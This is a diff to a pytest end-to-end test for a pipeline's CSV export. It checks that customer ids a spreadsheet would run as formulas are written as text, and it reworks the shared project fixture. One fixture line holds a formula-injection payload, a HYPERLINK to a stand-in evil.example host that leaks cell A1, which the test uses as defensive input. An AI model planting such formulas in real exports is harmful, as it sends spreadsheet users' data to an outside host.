@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import shutil
+
 import pandas as pd
 import pytest
 
 from models.simulate import SimulationSettings, simulate_log
 from pipeline.cli import main
+from tests.conftest import write_params
+
+pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("export")]
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
 FAST = (
@@ -19,15 +24,20 @@ FAST = (
 )
 
 
-@pytest.fixture
-def project(make_params, tmp_path):
+@pytest.fixture(scope="module")
+def project(tmp_path_factory):
+    """`cvm run` on a simulated log with customer ids a spreadsheet would run as formulas; run
+    once for the module (read-only: a test that breaks something works on a copy)."""
+    tmp = tmp_path_factory.mktemp("export")
     log = simulate_log(SimulationSettings(customers=2000, seed=6))[0]
     ids = {"0001": HOSTILE, "0002": "+1", "0003": "@SUM(A1)"}
     log["customer_id"] = log.customer_id.map(lambda c: ids.get(c, c))
-    log.to_csv(tmp_path / "log.csv", index=False)
-    make_params(*FAST, f"data.path={tmp_path}/log.csv", "tracking.enabled=false")
-    assert main(["run"]) == 0
-    return tmp_path
+    log.to_csv(tmp / "log.csv", index=False)
+    write_params(tmp, *FAST, f"data.path={tmp}/log.csv", "tracking.enabled=false")
+    with pytest.MonkeyPatch.context() as mp:
+        mp.chdir(tmp)
+        assert main(["run"]) == 0
+    return tmp
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(project):
@@ -39,7 +49,11 @@ def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(project):
     assert len(csv) == len(parquet)
 
 
-def test_broken_artifacts_stop_with_the_file_and_what_to_rerun(project, capsys):
+def test_broken_artifacts_stop_with_the_file_and_what_to_rerun(
+    project, tmp_path, monkeypatch, capsys
+):
+    project = shutil.copytree(project, tmp_path / "project")
+    monkeypatch.chdir(project)
     scoring = project / "data/features/scoring.parquet"
     scoring.write_bytes(scoring.read_bytes()[:500])  # a truncated table
     assert main(["stage", "score"]) == 2
